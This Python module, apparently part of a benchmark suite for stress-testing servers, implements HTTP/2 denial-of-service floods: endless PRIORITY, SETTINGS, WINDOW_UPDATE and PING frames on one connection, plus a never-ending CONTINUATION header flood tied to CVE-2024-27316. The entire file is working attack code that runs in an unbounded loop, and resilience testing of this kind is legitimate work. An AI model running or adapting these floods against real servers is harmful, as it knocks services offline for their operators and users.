"""Frames that carry nothing, as many as fit on the wire, on one connection."""

from __future__ import annotations

import asyncio

from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.attacks.aim import Aim

_BATCH = 1_000
_HEADER_FIELD = b"\x00\x01x\x01a"
"""``x: a`` as HPACK writes it without its tables."""


async def _flood(aim: Aim, frame: Frame, *, first: bytes = b"") -> None:
    """Sends ``first``, and then nothing but ``frame``."""
    data = frame.serialize() * _BATCH

    async def flood() -> None:
        async with aim.connection() as connection:
            # the server's settings are acknowledged, so that no frame of ours comes in between
            await connection.greeted.wait()
            await connection.write(first)
            while True:
                await connection.write(data)
                aim.done["frames"] += _BATCH
                await asyncio.sleep(0)

    await aim.at_once(1, flood)


async def priorities(aim: Aim) -> None:
    """Priorities of a stream that does not exist."""
    await _flood(aim, PriorityFrame(1, depends_on=0, stream_weight=1))


async def settings(aim: Aim) -> None:
    """Empty settings, each of which the server has to acknowledge."""
    await _flood(aim, SettingsFrame())


async def window_updates(aim: Aim) -> None:
    """A byte more for the whole connection, again and again."""
    await _flood(aim, WindowUpdateFrame(0, window_increment=1))


async def pings(aim: Aim) -> None:
    """Pings, each of which the server has to answer."""
    await _flood(aim, PingFrame(opaque_data=b"are you?"))


async def continuations(aim: Aim) -> None:
    """The headers of one call, which never end (CVE-2024-27316)."""
    begin = HeadersFrame(1, _HEADER_FIELD).serialize()
    await _flood(aim, ContinuationFrame(1, _HEADER_FIELD), first=begin)
